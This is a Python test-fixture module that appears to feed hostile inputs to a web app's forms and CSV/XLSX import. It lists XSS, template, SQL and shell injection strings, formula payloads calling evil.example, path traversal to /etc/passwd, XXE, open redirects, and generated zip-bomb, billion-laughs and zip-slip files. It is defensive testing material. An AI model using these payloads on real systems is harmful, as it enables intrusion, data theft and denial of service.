"""Inputs that somebody might send to do harm, as data: texts for every form, raw bytes, addresses and files."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Final

XSS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/?c)}</style>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '" hx-get="/mine/" hx-trigger="load" x="',
    "<div hx-on:load='alert(1)'>x</div>",
    "<button data-copy='x' data-open='x'>x</button>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<İmg src=x onerror=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
)
TEMPLATES: Final = (
    "{{ 7*7 }}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include '/etc/passwd' %}", "{% load static %}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "${jndi:ldap://evil.example/x}",
    "%(name)s %(missing)s", "%s%s%s%n", "{0.__class__.__mro__}", "{person.password}", "{}{}{}",
    "#set($x=7*7)$x", "*{7*7}", "@(7*7)", "[[7*7]]", '#read("/etc/passwd")', "#eval(1)", "$math$", "`id`", "\\input{/etc/passwd}",
)  # fmt: skip
FORMULAS: Final = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!E1",
    "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=1+1";=1+1', "x;=1+1", "x\n=1+1",
    "+358401234567", "-", "=", "@aino",
)  # fmt: skip
HEADERS: Final = (
    "x\r\nBcc: victim@evil.example", "x\nBcc: victim@evil.example", "x\r\nSet-Cookie: a=b", "x\r\n\r\n<script>alert(1)</script>",
    "x%0d%0aLocation: //evil.example", "x\u2028Bcc: y", "x\u0085Bcc: y", "=?utf-8?B?QmNjOg==?=", "Aino <a@b>, victim@evil.example",
    "x\r\nContent-Type: text/html", "\r\nX: y", "x\x0b\x0cBcc: y", "END:VEVENT\r\nBEGIN:VALARM", "x\\nATTENDEE:mailto:victim@evil.example",
)  # fmt: skip
PATHS: Final = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "..%c0%afetc", "/proc/self/environ", "C:\\Windows\\win.ini",
    "\\\\evil.example\\share", "CON", "a/../../b", ".", "..", "~root", "$HOME", "x\x00.csv",
)  # fmt: skip
COMMANDS: Final = (
    "' OR '1'='1", "'; DROP TABLE people_person; --", "1; SELECT pg_sleep(5)", "1 UNION SELECT null,version()--", "' AND 1=CAST((SELECT version()) AS int)--",
    "\\'; --", "%27%20OR%201=1", "1e1' OR 1::int=1", "*)(uid=*))(|(uid=*", "' or ''='", "; cat /etc/passwd", "| id", "$(id)",
    "&& sleep 5 &&", '<!--#exec cmd="id"-->', "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", '{"$gt": ""}', "__proto__",
    "constructor[prototype][x]", "() { :;}; echo x", "a' || pg_read_file('/etc/passwd') || '", "100%_\\%", "\\", "\\\\", "NULL", "null", "undefined",
)  # fmt: skip
NUMBERS: Final = (
    "99999999999999999999999999", "-1", "-0", "1e309", "NaN", "Infinity", "0x10", "٣", "１", "1_000", "1,5", "9223372036854775808",
    "2147483648", "0000001", "²", "½", "0.1e1", "+1 ", "1\u00a0000", "0b1",
)  # fmt: skip
UNICODE: Final = (
    "\u202eelif.exe", "Kuura\u202e yO", "\u2066hidden\u2069", "\u200bAino\u200b", "Ai\u200dno", "\ufeffAino", "Ai\u00adno", "\u2060",
    "Аіnо", "ΑΙΝΟ", "paypaӏ.com", "ａｉｎｏ", "𝐀𝐢𝐧𝐨", "Ⓐⓘⓝⓞ", "a\u0308iti", "ä" + "\u0301" * 60, "Z̷͓͎a̸lgo" + "\u0337" * 200, "İstanbul", "ß", "ſ", "ﬁ",
    "\u1680", "\u3000", "\u115f", "\u3164", "\u2800", "\ufff9a\ufffab\ufffb", "\ufffe", "\uffff", "\U000e0041", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "x\x00y", "\x00", "\x01\x02\x03", "x\x1by", "x\x7fy", "x\x80\x9fy", "\x0c", "\u2028\u2029", "\u0085", "हिन्दी", "العربية", "𠜎𠜱", "﷽", "🇫🇮" * 50,
)  # fmt: skip
LONG: Final = (
    "a" * 501, "ä" * 10_001, "a b " * 5_000, "a\n" * 5_000, "<b>" * 3_000, "(" * 5_000 + ")" * 5_000, "a" * 64 + "@" + "b" * 255 + ".example",
    "http://" + "a." * 2_000 + "example", " " * 10_000, "\n" * 3_000, "&" * 4_000, "9" * 5_000,
)  # fmt: skip
TEXTS: Final = (*XSS, *TEMPLATES, *FORMULAS, *HEADERS, *PATHS, *COMMANDS, *NUMBERS, *UNICODE, *LONG)

RAW: Final = (
    b"name=%ED%A0%80", b"name=%ED%A0%80%ED%B0%80", b"name=%C0%AF", b"name=%F8%88%80%80%80", b"name=%FF%FE", b"name=%80",
    b"name=%E4%", b"name=%", b"name=%u0041", b"&&&===&", b"name", b"=x", b"name=a&name=b", b"name[]=a", b"name%00=x",
    b"version=1&version=2", b"\x00\x01\x02", b"csrfmiddlewaretoken=x", b"name=%0d%0aSet-Cookie:a=b", "name=ä".encode("latin-1"),
    "name=ä".encode("utf-16"),
)  # fmt: skip
"""Bodies of forms that no browser sends: halves of characters, too long ones, broken percent signs."""

PLACES: Final = (
    "https://evil.example/", "http://evil.example", "//evil.example", "///evil.example", "////evil.example/%2f..", "/\\evil.example",
    "\\\\evil.example", "/\t/evil.example", "https:evil.example", "https:/evil.example", "http:///evil.example", "javascript:alert(1)",
    "data:text/html,x", "//evil.example@testserver/", "https://testserver@evil.example/", "https://testserver.evil.example/", "//testserver:80@evil.example",
    "/%0d%0aLocation:%20//evil.example", "\n//evil.example", "//evil%E3%80%82example", "//[::1]/", "ftp://evil.example/x", ".evil.example", "http://testserver%2eevil.example/",
)  # fmt: skip
"""Where a form or an address might be told to lead: none of them is a page of this site."""


def _zip(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name.replace("__", "/"), content)
    return out.getvalue()


_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_BOMB = b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a '%s'>%s]><l>&j;</l>" % (
    b"lol" * 100,
    b"".join(b"<!ENTITY %c '%s'>" % (c, b"&%c;" % (c - 1) * 30) for c in range(ord("b"), ord("k"))),
)
FILES: Final[tuple[tuple[str, Callable[[], bytes]], ...]] = (
    ("empty.csv", lambda: b""),
    ("only-marks.csv", lambda: b"\xef\xbb\xbf\r\n\r\n"),
    ("picture.csv", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 100),
    ("photo.xlsx", lambda: b"\xff\xd8\xff\xe0" + b"x" * 100),
    (
        "drawing.csv",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
    ),
    ("page.xlsx", lambda: b"<!doctype html><script>alert(1)</script>"),
    ("program.csv", lambda: b"MZ\x90\x00" + b"\x00" * 200),
    ("program.xlsx", lambda: b"\x7fELF" + b"\x00" * 200),
    ("paper.csv", lambda: b"%PDF-1.7\n1 0 obj"),
    ("old.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    ("cut.xlsx", lambda: b"PK\x03\x04" + b"\x00" * 40),
    ("nothing.xlsx", lambda: _zip(x=b"y")),
    ("types-only.xlsx", lambda: _zip(**{"[Content_Types].xml": _TYPES})),
    ("climbing.xlsx", lambda: _zip(**{"..__..__..__etc__passwd": b"x", "[Content_Types].xml": _TYPES})),
    ("bomb.xlsx", lambda: _zip(**{"xl__worksheets__sheet1.xml": b"\x00" * (130 * 1024 * 1024)})),
    ("laughs.xlsx", lambda: _zip(**{"[Content_Types].xml": _BOMB, "xl__workbook.xml": _BOMB})),
    (
        "entity.xlsx",
        lambda: _zip(
            **{"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"}
        ),
    ),
    ("nested.xlsx", lambda: _zip(inner=_zip(inner=b"x" * 1000))),
    ("packed.csv.gz", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 50),
    ("zeros.csv", lambda: b"\x00" * 10_000),
    ("noise.csv", lambda: bytes(range(256)) * 40),
    ("no-heading.csv", lambda: b"a;b;c\n1;2;3\n"),
    ("wide.csv", lambda: b";".join(b"x" for _ in range(100_000)) + b"\n"),
    ("one-line.csv", lambda: b"x" * (2 * 1024 * 1024)),
    ("quote.csv", lambda: b'"' + b"never closed;" * 10_000),
    ("too-many.csv", lambda: b"Yritys;Y-tunnus\n" + b"Kuura Oy;\n" * 20_001),
    ("too-large.csv", lambda: b"Yritys;Y-tunnus\n" + b"Kuura Oy;\n" * 1_100_000),
    ("half.csv", lambda: "Yritys;Y-tunnus\nKuura\ud800 Oy;\n".encode("utf-16", "surrogatepass")),
    ("../../../etc/cron.d/x.csv", lambda: b"x"),
    ("a\r\nSet-Cookie: x=y.csv", lambda: b"x"),
    ("\u202evsc.exe", lambda: b"x"),
    ("<script>alert(1)</script>.csv", lambda: b"x"),
    ("n" * 400 + ".csv", lambda: b"x"),
)
"""Name and content of files that are no tables that could be brought in."""
